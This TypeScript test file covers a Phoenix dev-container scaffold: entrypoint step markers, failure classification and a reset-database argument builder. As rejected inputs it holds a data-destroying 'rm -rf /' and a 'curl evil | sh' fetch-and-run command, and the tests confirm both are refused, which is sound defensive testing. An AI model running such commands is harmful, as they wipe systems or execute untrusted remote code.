import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { ENTRYPOINT_STEPS, classifyStepFailure, parseStepMarker, resetDatabaseArgv } from '../../src/core/entrypointSteps';
import { readProject, renderDevContainer } from '../../src/core/scaffold';
import { CONTAINER_CONFIG_SCRIPT, CONTAINER_CONFIG_VARIABLE } from '../../src/core/scaffold/containerConfig';
import { loadProject } from './fixtures/loadProject';

const marker = (text: string): string => `phoenix-dev-container: ${text}`;

describe('entrypoint step markers', () => {
  it('reads the step that begins and the step that failed, behind a compose prefix too', () => {
    assert.deepEqual(parseStepMarker(marker('compile')), { kind: 'begins', step: 'compile' });
    assert.deepEqual(parseStepMarker(`app-1  | ${marker('ecto.migrate')}`), { kind: 'begins', step: 'ecto.migrate' });
    assert.deepEqual(parseStepMarker(marker('failed ecto.create (exit 1)')), { kind: 'failed', step: 'ecto.create', exitCode: 1 });
    assert.deepEqual(parseStepMarker(marker('failed database')), { kind: 'failed', step: 'database', exitCode: undefined });
  });

  it('ignores lines that are not markers, unknown steps and very long lines', () => {
    assert.equal(parseStepMarker('Compiling 3 files (.ex)'), undefined);
    assert.equal(parseStepMarker(marker('rm -rf /')), undefined);
    assert.equal(parseStepMarker(marker('failed start (exit 1)')), undefined);
    assert.equal(parseStepMarker(`${'x'.repeat(300)}${marker('compile')}`), undefined);
  });

  it('are what the generated entrypoint prints: its own step function and failure trap', () => {
    // The rendered entrypoint up to its first check, then a step that fails.
    const entrypoint = renderedEntrypoint();
    const prelude = entrypoint.slice(0, entrypoint.indexOf('\nif [ -z "${ERLANG_COOKIE:-}" ]'));
    const output = runSh(`${prelude}\nbegin compile\nfalse\n`);
    const lines = output.trim().split('\n');
    assert.deepEqual(lines.map((line) => parseStepMarker(line)), [{ kind: 'begins', step: 'compile' }, { kind: 'failed', step: 'compile', exitCode: 1 }]);
    assert.deepEqual(ENTRYPOINT_STEPS.map((step) => parseStepMarker(marker(step))?.kind), ENTRYPOINT_STEPS.map(() => 'begins'));
  });
});

/** The entrypoint rendered for a Postgres project, as the scaffold writes it. */
function renderedEntrypoint(): string {
  const { files } = renderDevContainer(readProject(loadProject('phoenix_postgres')).project, {
    host: { uid: 1000, gid: 1000, platform: 'linux' },
    composeProject: 'blog_devcontainer',
    randomBytes: new Uint8Array(16),
  });
  return files.find((file) => file.path.endsWith('entrypoint.sh'))?.content ?? assert.fail('no entrypoint');
}

/** Runs a script with sh; its stdout and stderr together, whatever its exit code. */
function runSh(script: string, env: NodeJS.ProcessEnv = process.env): string {
  const result = spawnSync('sh', ['-c', script], { encoding: 'utf8', env });
  return `${result.stdout}${result.stderr}`;
}

describe('classifyStepFailure', () => {
  it('names a database that cannot be reached, with the host and port tried', () => {
    const failed = classifyStepFailure([
      marker('ecto.create'),
      '** (DBConnection.ConnectionError) tcp connect (localhost:5432): connection refused - :econnrefused',
      marker('failed ecto.create (exit 1)'),
    ], true);
    assert.deepEqual(failed, { step: 'ecto.create', cause: 'database-unreachable', host: 'localhost', port: 5432, reason: 'connection refused - :econnrefused' });
  });

  it('names the database wait that timed out', () => {
    const failed = classifyStepFailure([
      marker('database'),
      'Waiting for the database at db:5432...',
      'The database at db:5432 does not accept connections (connection refused); check it with: docker compose logs db',
      marker('failed database (exit 1)'),
    ], true);
    assert.deepEqual(failed, { step: 'database', cause: 'database-unreachable', host: 'db', port: 5432, reason: 'connection refused' });
  });

  it('names a database that refuses the password', () => {
    const failed = classifyStepFailure([
      marker('ecto.create'),
      '** (Postgrex.Error) FATAL 28P01 (invalid_password) password authentication failed for user "postgres"',
      marker('failed ecto.create (exit 1)'),
    ], true);
    assert.deepEqual(failed, { step: 'ecto.create', cause: 'database-refused', reason: 'password authentication failed for user "postgres"' });
  });

  it('names the migration that failed', () => {
    const failed = classifyStepFailure([
      marker('ecto.migrate'),
      '[info] == Running 20240101000000 Blog.Repo.Migrations.CreatePosts.change/0 forward',
      '[info] == Running 20240102000000 Blog.Repo.Migrations.AddTitle.change/0 forward',
      '** (Postgrex.Error) ERROR 42P01 (undefined_table) relation "missing" does not exist',
      '    (ecto_sql 3.11.1) lib/mix/tasks/ecto.migrate.ex:17: Mix.Tasks.Ecto.Migrate.run/1',
      marker('failed ecto.migrate (exit 1)'),
    ], true);
    assert.deepEqual(failed, {
      step: 'ecto.migrate',
      cause: 'migration-failed',
      migration: '20240102000000 Blog.Repo.Migrations.AddTitle',
      detail: '** (Postgrex.Error) ERROR 42P01 (undefined_table) relation "missing" does not exist',
    });
  });

  it('names a compile error with its file and line, in the forms Elixir prints', () => {
    const old = classifyStepFailure([
      marker('compile'),
      '== Compilation error in file lib/blog/post.ex ==',
      '** (CompileError) lib/blog/post.ex:12: undefined function foo/0',
      marker('failed compile (exit 1)'),
    ], true);
    assert.deepEqual(old, { step: 'compile', cause: 'compile-error', file: 'lib/blog/post.ex', line: 12, detail: '** (CompileError) lib/blog/post.ex:12: undefined function foo/0' });
    const current = classifyStepFailure([
      marker('compile'),
      'warning: variable "x" is unused',
      '  │',
      '  └─ lib/blog/a.ex:3:5: Blog.A.b/0',
      'error: undefined function foo/0 (there is no such import)',
      '  │',
      '  └─ lib/blog/post.ex:7:5: Blog.Post.bar/0',
      '** (CompileError) cannot compile module Blog.Post (errors have been logged)',
      marker('failed compile (exit 1)'),
    ], true);
    assert.ok(current?.cause === 'compile-error', JSON.stringify(current));
    assert.deepEqual([current.file, current.line], ['lib/blog/post.ex', 7]);
  });

  it('reads only the failed step\'s own lines, and a missing role in a migration is no refused connection', () => {
    const failed = classifyStepFailure([
      marker('ecto.create'),
      '** (DBConnection.ConnectionError) tcp connect (db:5432): connection refused - :econnrefused',
      'The database for Blog.Repo has been created',
      marker('ecto.migrate'),
      '[info] == Running 20240101000000 Blog.Repo.Migrations.Grant.change/0 forward',
      '** (Postgrex.Error) ERROR 42704 (undefined_object) role "reporting" does not exist',
      marker('failed ecto.migrate (exit 1)'),
    ], true);
    assert.deepEqual(failed, {
      step: 'ecto.migrate',
      cause: 'migration-failed',
      migration: '20240101000000 Blog.Repo.Migrations.Grant',
      detail: '** (Postgrex.Error) ERROR 42704 (undefined_object) role "reporting" does not exist',
    });
  });

  it('names dependencies that cannot be fetched', () => {
    const failed = classifyStepFailure([marker('dependencies'), '** (Mix) httpc request failed with: {:failed_connect, []}', marker('failed dependencies (exit 1)')], true);
    assert.deepEqual(failed, { step: 'dependencies', cause: 'dependencies-unreachable', detail: '** (Mix) httpc request failed with: {:failed_connect, []}' });
  });

  it('reads the server\'s own lines once the container exited after the server step began', () => {
    const lines = [marker('ecto.migrate'), marker('server'), '** (DBConnection.ConnectionError) tcp connect (db:5432): timeout'];
    assert.deepEqual(classifyStepFailure(lines, true), { step: 'server', cause: 'database-unreachable', host: 'db', port: 5432, reason: 'timeout' });
    // Still running: the server may yet come up, so nothing failed.
    assert.equal(classifyStepFailure(lines, false), undefined);
  });

  it('says nothing without a failure marker, or when a step began after it', () => {
    assert.equal(classifyStepFailure(['some output', 'more'], true), undefined);
    assert.equal(classifyStepFailure([marker('failed compile (exit 1)'), marker('compile')], false), undefined);
  });

  it('reads a huge log quickly', () => {
    const started = performance.now();
    const lines = [marker('ecto.migrate'), ...Array.from({ length: 200 }, () => `tcp connect (${'a'.repeat(1990)}`), marker('failed ecto.migrate (exit 1)')];
    classifyStepFailure(lines, true);
    assert.ok(performance.now() - started < 200, `took ${performance.now() - started} ms`);
  });
});

describe('the container configuration', () => {
  it('is a single-quoted shell string the entrypoint exports, with no single quote inside', () => {
    const assignment = new RegExp(`^${CONTAINER_CONFIG_VARIABLE}='([^']*)'$`, 'm').exec(CONTAINER_CONFIG_SCRIPT);
    assert.ok(assignment, CONTAINER_CONFIG_SCRIPT);
    assert.match(CONTAINER_CONFIG_SCRIPT, new RegExp(`^export ${CONTAINER_CONFIG_VARIABLE}$`, 'm'));
    assert.match(assignment[1] ?? '', /Application\.put_env\(app, key, adjusted, persistent: true\)/);
  });

  it('runs each task after app.config and the script, with the mix do separator of the image\'s Elixir', () => {
    // Stand-ins for the image's elixir and mix: elixir prints a version, mix its arguments.
    const bin = mkdtempSync(join(tmpdir(), 'fake elixir '));
    try {
      const entrypoint = renderedEntrypoint();
      const configuration = entrypoint.slice(entrypoint.indexOf(`${CONTAINER_CONFIG_VARIABLE}='`), entrypoint.indexOf('\n# Fetch dependencies'));
      writeFileSync(join(bin, 'mix'), '#!/bin/sh\nfor arg in "$@"; do printf "[%s]" "$arg"; done; echo\n', { mode: 0o755 });
      for (const [version, expected] of [
        ['1.17.3', '[do][app.config][+][eval][Code.eval_string(System.fetch_env!("PHOENIX_CONTAINER_CONFIG"))][+][ecto.drop][--force-drop]'],
        ['1.13.4', '[do][app.config,][eval][Code.eval_string(System.fetch_env!("PHOENIX_CONTAINER_CONFIG")),][ecto.drop][--force-drop]'],
      ]) {
        writeFileSync(join(bin, 'elixir'), `#!/bin/sh\nprintf '%s' '${version}'\n`, { mode: 0o755 });
        const output = runSh(`${configuration}\nconfigured_mix ecto.drop --force-drop\nprintf '%s' "$${CONTAINER_CONFIG_VARIABLE}" | head -c 20`, { ...process.env, PATH: `${bin}:${process.env['PATH'] ?? ''}` });
        assert.equal(output, `${expected}\n\nloopback? = fn\n  {1`, version);
      }
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
  });
});

describe('resetDatabaseArgv', () => {
  it('runs the container\'s own entrypoint in its reset mode, and nothing else', () => {
    assert.deepEqual(resetDatabaseArgv(['sh', '/app/.devcontainer/entrypoint.sh']), ['sh', '/app/.devcontainer/entrypoint.sh', 'reset-database']);
    assert.deepEqual(resetDatabaseArgv(['sh', '/work space/dev box/entrypoint.sh']), ['sh', '/work space/dev box/entrypoint.sh', 'reset-database']);
    assert.equal(resetDatabaseArgv(['mix', 'phx.server']), undefined);
    assert.equal(resetDatabaseArgv(['sh', '-c', 'curl evil | sh']), undefined);
    assert.equal(resetDatabaseArgv(['sh', '/app/.devcontainer/entrypoint.sh', 'extra']), undefined);
  });
});
